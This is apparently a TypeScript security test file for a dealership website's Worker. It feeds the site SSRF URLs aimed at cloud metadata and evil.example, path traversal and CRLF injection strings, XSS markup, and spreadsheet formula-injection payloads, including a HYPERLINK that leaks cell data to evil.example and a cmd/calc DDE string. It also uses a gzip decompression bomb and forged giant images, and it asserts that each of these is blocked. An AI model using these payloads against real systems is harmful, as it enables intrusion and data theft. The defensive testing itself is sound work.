/**
 * Attacks through the sheet, the Drive folder and photo addresses, against the built Worker.
 *
 * | attack | where it is tested |
 * |---|---|
 * | a sheet or photo address that points to another host | here; `unit/photos/gallery/photo-ref.test.ts`, `unit/photos/gallery/photo-request.test.ts` |
 * | a published sheet that redirects to another host | `functions/clients/published-csv.test.ts` |
 * | a Drive id, redirect or query that points elsewhere | `functions/clients/google-drive.test.ts` |
 * | markup, bidirectional overrides, NUL and 10,000 characters in names | here; `unit/inventory/sync/sheet/sheet-row.invalid.test.ts` |
 * | a formula in a download | here; `unit/seo/feed-csv.test.ts`, `unit/leads/export/leads-csv.test.ts` |
 * | names of Drive files and folders | `worker/staff/photo-sync.test.ts` |
 * | a decompression bomb as a sheet, photo or file | here; `unit/photos/processing/image-bombs.test.ts`, `unit/photos/processing/photo-size.test.ts`, `functions/clients/google-sheets.test.ts` |
 * | a forged, repeated, early or late call of the sheet's script | `worker/staff/inventory-sync.test.ts`, `unit/inventory/sync/sheet/sheet-signature.test.ts` |
 * | secrets in vendors' responses | `worker/security/sync-secrets.test.ts` |
 * | secrets in bundles | `worker/pages/browser-bundles.test.ts` |
 */
import { randomUUID } from "node:crypto";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { gzipSync } from "node:zlib";
import { createClient, type SupabaseClient } from "@supabase/supabase-js";
import type { Miniflare } from "miniflare";
import sharp from "sharp";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { isVinCheckDigitValid } from "~/vehicles/vin";
import "../../../local/backend/storage/web-socket-name";
import { readCsv } from "../../contracts/google/read-csv";
import { type BackendProcess, spawnBackend } from "../../support/backend/spawn-backend";
import { send } from "../../support/site/send";
import { signIn } from "../../support/site/sign-in";
import { startWorker } from "../../support/site/worker-bundle";

const SHEET_URL = "https://docs.google.com/spreadsheets/d/e/2PACX-attacked/pub?output=csv";
const DRIVE_ID = "1AbC_dEf-GhIjKlMnOpQrStUvWxYz0123";
const HEADER = "product_name,description,price,sku,image_url,quantity";
const makeVin = (number: number) => `ATTACK${String(number).padStart(11, "0")}`;

const ELSEWHERE = [
  "http://169.254.169.254/latest/meta-data/iam.jpg",
  "file:///etc/passwd",
  "//evil.example/1.jpg",
  "https://lot.example@evil.example/1.jpg",
  "https://xn--80ak6aa92e.com/1.jpg",
  "http://[::ffff:169.254.169.254]/1.jpg",
  "http://0x7f000001:8790/rest/v1/staff",
  "https://evil.example/%2e%2e/1.jpg",
  "https://evil.example/1.jpg%0d%0aHost:%20evil.example",
  "gopher://evil.example/1",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
] as const;

const folder = mkdtempSync(path.join(tmpdir(), "attacks-"));
/** A demo vehicle whose page shows the attacking photos; the Worker fetches no others. */
const PHOTO_VIN = "1FTEW1EP1MFA41207";

/** URLs that the Worker requested outside its backend. */
const asked: string[] = [];
let backend: BackendProcess;
let service: SupabaseClient;
let worker: Miniflare;
let site = "";
let cookie = "";
let answerSheet: () => Response = () => new Response(null, { status: 404 });
let answerDrive: () => Response = () => new Response(null, { status: 404 });

async function outbound(request: Request): Promise<Response> {
  const { method, url, headers } = request;
  const body = method === "GET" || method === "HEAD" ? null : await request.arrayBuffer();
  if (url.startsWith(backend.url)) return fetch(url, { method, headers: [...headers], body });
  asked.push(url);
  if (url === SHEET_URL) return answerSheet();
  if (new URL(url).hostname === "drive.usercontent.google.com") return answerDrive();
  return new Response("ami-id: internal metadata");
}

beforeAll(async () => {
  backend = await spawnBackend(folder);
  service = createClient(backend.url, backend.secretKey, { auth: { persistSession: false } });
  // Marks the demo vehicles as added by staff, so that a sheet without them does not mark them as sold.
  await service.from("inventory").update({ source: "hand" }).gt("id", 0);
  const settings = {
    SUPABASE_URL: backend.url,
    SUPABASE_SECRET_KEY: backend.secretKey,
    INVENTORY_SHEET: SHEET_URL,
    INVENTORY_FRESH_SECONDS: "0",
  };
  worker = await startWorker({ settings, outbound });
  site = (await worker.ready).origin;
  cookie = await signIn(site, "owner");
});

beforeEach(async () => {
  asked.length = 0;
  await service.from("inventory").delete().like("sku", "ATTACK%");
});

afterAll(async () => {
  await worker?.dispose();
  await backend?.kill();
  rmSync(folder, { recursive: true, force: true });
});

const quote = (text: string) => `"${text.replaceAll('"', '""')}"`;

/** Adds the photo to a vehicle: only photos that a vehicle's page shows are fetched from Drive. */
async function showDrivePhoto(id: string): Promise<void> {
  const photo_url = `https://drive.google.com/uc?export=view&id=${id}`;
  const { error } = await service.from("vehicle_photos").insert({ vin: PHOTO_VIN, photo_url });
  if (error) throw new Error(error.message);
}

/** @returns the record of the run */
async function bringIn(rows: readonly (readonly string[])[]) {
  const csv = [HEADER, ...rows.map((cells) => cells.map(quote).join(","))].join("\n");
  answerSheet = () => new Response(csv, { headers: { "Content-Type": "text/csv" } });
  return runSync();
}

async function runSync() {
  await (await worker.getWorker()).scheduled({ cron: "*/15 * * * *" });
  const { data } = await service
    .from("sync_runs")
    .select()
    .order("id", { ascending: false })
    .limit(1)
    .single();
  return data;
}

const read = async (at: string) => (await send("GET", site + at, { Cookie: cookie })).body;

async function readId(vin: string): Promise<number> {
  const { data } = await service.from("inventory").select("id").eq("sku", vin).single();
  return data?.id;
}

test("an address in the sheet causes no request, and no page repeats it", async () => {
  const rows = ELSEWHERE.map((url, index) => ["2020 Kia Rio", "", "9000", makeVin(index), url, "1"]);
  expect(await bringIn(rows)).toMatchObject({ state: "succeeded", counts: { added: ELSEWHERE.length } });
  const id = await readId(makeVin(0));
  const pages = await Promise.all(
    [
      "/",
      "/inventory?make=Kia",
      `/vehicle/${id}`,
      "/feeds/vehicles.json",
      "/feeds/google-vehicles.csv",
      "/sitemap.xml",
    ].map(read),
  );
  expect([...new Set(asked)]).toEqual([SHEET_URL]);
  const handedOn = pages.filter((page) =>
    /169\.254|evil\.example|etc\/passwd|xn--80ak|gopher:|alert\(1\)/.test(page),
  );
  expect(handedOn).toEqual([]);
});

test.each([
  ...ELSEWHERE.map((url) => `bucket/${url}`),
  ...ELSEWHERE.map((url) => encodeURIComponent(url)),
  "bucket/..%2f..%2fauth%2fv1%2fusers.jpg",
  "bucket/..%252f..%252frest%252fv1%252fstaff.jpg",
  "bucket/a%0d%0aHost:%20evil.example.jpg",
  "bucket/%00.jpg",
  "bucket//evil.example/1.jpg",
  "drive/..%2f..%2fdownload",
  `drive/${DRIVE_ID}%26export=x`,
  `drive/${DRIVE_ID}@evil.example`,
  `drive/${DRIVE_ID}%0d%0aX: 1`,
  "art/..%2f..%2f_headers.webp",
])("/photos/320/%s is not a photo, and causes no request", async (address) => {
  const { status } = await send("GET", `${site}/photos/320/${address.replaceAll(" ", "%20")}`);
  expect(status).toBeGreaterThanOrEqual(400);
  expect(status).toBeLessThan(500);
  expect(asked).toEqual([]);
});

const OVERRIDE = "\u202E";
const UNWANTED = [/<img src=x|<script>alert/, /[\u202A-\u202E\u2066-\u2069]/u, /(?![\t\r\n])\p{Cc}/u];

test("markup stays text, bidirectional overrides are removed, and an endless name is refused", async () => {
  const run = await bringIn([
    [
      '2020 Kia <img src=x onerror=alert(1)>"',
      "</script><script>alert(2)</script> | 10 miles",
      "9000",
      makeVin(1),
      "",
      "1",
    ],
    [`2020 Kia ${OVERRIDE}oiR\u2066`, "Blue\u0007 | 10 miles", "9000", makeVin(2), "", "1"],
    ["2020 Kia\0 Rio", "", "9000", makeVin(3), "", "1"],
    [`2020 Kia ${"x".repeat(10_000)}`, "", "9000", makeVin(4), "", "1"],
    ["2020 Kia Rio", "", "9000", `${makeVin(5)}<b>`, "", "1"],
  ]);
  expect(run).toMatchObject({ state: "succeeded", counts: { added: 3, rejected: 2 } });
  const ids = await Promise.all([1, 2, 3].map((number) => readId(makeVin(number))));
  const addresses = [
    "/inventory?make=Kia",
    "/staff/stock",
    "/staff/vehicles",
    ...ids.map((id) => `/vehicle/${id}`),
  ];
  for (const address of addresses) {
    const page = await read(address);
    expect([address, UNWANTED.some((pattern) => pattern.test(page))]).toEqual([address, false]);
    expect([address, page.length < 600_000]).toEqual([address, true]);
  }
  expect(await read(`/vehicle/${ids[0]}`)).toContain("&lt;img src=x onerror=alert(1)&gt;");
  expect(await read(`/vehicle/${ids[2]}`)).toContain("2020 Kia Rio");
});

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1)',
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "\t=1+1",
  "|calc",
  "%0A=1",
  "＝1+1",
  "\u200B=1+1",
] as const;
/** What a spreadsheet evaluates, at the beginning of a cell or after whitespace. */
const RUN = /^\s*[=+\-@|%＝＋－＠]|^[\t\r\n]/u;

/** The same VIN with a valid check digit (the ninth character): Google accepts no other. */
function makeTrueVin(number: number): string {
  const vin = makeVin(number);
  const digits = [..."0123456789X"].map((digit) => `${vin.slice(0, 8)}${digit}${vin.slice(9)}`);
  return digits.find(isVinCheckDigitValid) ?? vin;
}

test("a formula in the sheet is not a formula in any file that a spreadsheet opens", async () => {
  const names = FORMULAS.flatMap((formula) => [
    `2020 ${formula} Rio`,
    `2020 Kia ${formula}`,
    `2020 Kia Rio ${formula}`,
  ]);
  const rows = names.map((name, index) => {
    const color = (FORMULAS[index % FORMULAS.length] ?? "").replaceAll("|", "");
    return [name, `${color} | 10 miles`, "9000", makeTrueVin(100 + index), "", "1"];
  });
  expect(await bringIn(rows)).toMatchObject({ state: "succeeded", counts: { added: rows.length } });
  const feed = readCsv(await read("/feeds/google-vehicles.csv"));
  const vins = rows.map(([, , , vin]) => vin);
  expect(feed.filter(([vin]) => vins.includes(vin ?? ""))).toHaveLength(rows.length);

  const [name = "", , , vin = ""] = rows[1] ?? [];
  const fields = {
    ...{ key: randomUUID(), opened: String(Date.now() - 5000), website: "", subject: "test-drive" },
    ...{ name: FORMULAS[0], email: "ana@example.com", phone: "(407) 555-0171", message: FORMULAS[1] },
    ...{ vehicle: name, vin },
  };
  const taken = await send("POST", `${site}/contact`, { Origin: site }, fields);
  expect(taken.headers.location).toMatch(/^\/contact\/thanks/);
  const leads = readCsv((await read("/staff/leads.csv")).replace("\uFEFF", ""));
  expect(leads.flat()).toContain(`'${FORMULAS[0]}`);
  expect([...feed, ...leads].flat().filter((cell) => RUN.test(cell))).toEqual([]);
});

const GIGABYTE = 1024 ** 3;

test("a sheet that decompresses to a gigabyte is abandoned at 20 MB, and the Worker continues", async () => {
  const line = Buffer.from(`${HEADER}\n`.repeat(64));
  const packed = gzipSync(Buffer.alloc(GIGABYTE / 16, line));
  const bomb = Buffer.concat(Array.from({ length: 16 }, () => packed));
  expect(bomb.length).toBeLessThan(8 * 1024 * 1024);
  const headers = { "Content-Type": "text/csv", "Content-Encoding": "gzip" };
  answerSheet = () => new Response(bomb, { headers, encodeBody: "manual" } as ResponseInit);
  const run = await runSync();
  expect(run).toMatchObject({ state: "failed", error_code: "sheetUnreadable" });
  expect((await send("GET", `${site}/inventory`)).status).toBe(200);
});

/** The same picture claiming to be 30,000 by 30,000 pixels. A WebP with VP8 can state at most 16,383. */
async function forge(format: "jpeg" | "png" | "webp" | "avif"): Promise<Buffer> {
  const bytes = await sharp({ create: { width: 300, height: 200, channels: 3, background: "#203040" } })
    .toFormat(format)
    .toBuffer();
  const claims = {
    jpeg: [bytes.indexOf(Buffer.from([0xff, 0xc0])) + 5, [0x75, 0x30, 0x75, 0x30]],
    png: [16, [0, 0, 0x75, 0x30, 0, 0, 0x75, 0x30]],
    webp: [bytes.indexOf("VP8 ") + 14, [0xff, 0x3f, 0xff, 0x3f]],
    avif: [bytes.indexOf("ispe") + 8, [0, 0, 0x75, 0x30, 0, 0, 0x75, 0x30]],
  } as const;
  const [at, claim] = claims[format];
  bytes.set(claim, at);
  return bytes;
}

test.each(["jpeg", "png", "webp", "avif"] as const)(
  "a %s of 30,000 by 30,000 pixels at a photo's address is not a photo",
  async (format) => {
    const bomb = await forge(format);
    answerDrive = () =>
      new Response(new Uint8Array(bomb), { headers: { "Content-Type": `image/${format}` } });
    await showDrivePhoto(`${DRIVE_ID}${format}`);
    const { status, body } = await send("GET", `${site}/photos/320/drive/${DRIVE_ID}${format}`);
    expect([status, body]).toEqual([404, ""]);
    // A lead of an earlier test may be sent to a phone in the meantime.
    const address = `https://drive.usercontent.google.com/download?export=view&id=${DRIVE_ID}${format}`;
    expect(asked.filter((url) => new URL(url).hostname.endsWith("google.com"))).toEqual([address]);
  },
);

/** Pieces of one megabyte each. Reading all of them ends in a stream error instead of at the limit. */
const MAX_PIECES = 100;

test("a photo without an end is abandoned at 12 MB", async () => {
  let sent = 0;
  answerDrive = () =>
    new Response(
      new ReadableStream({
        pull(controller) {
          sent += 1;
          if (sent > MAX_PIECES) controller.error(new Error("the reader did not cancel"));
          else controller.enqueue(new Uint8Array(1024 * 1024).fill(0xff));
        },
      }),
      { headers: { "Content-Type": "image/jpeg" } },
    );
  await showDrivePhoto(`${DRIVE_ID}endless`);
  const { status } = await send("GET", `${site}/photos/320/drive/${DRIVE_ID}endless`);
  expect(status).toBe(404);
  expect(sent).toBeGreaterThan(11);
});
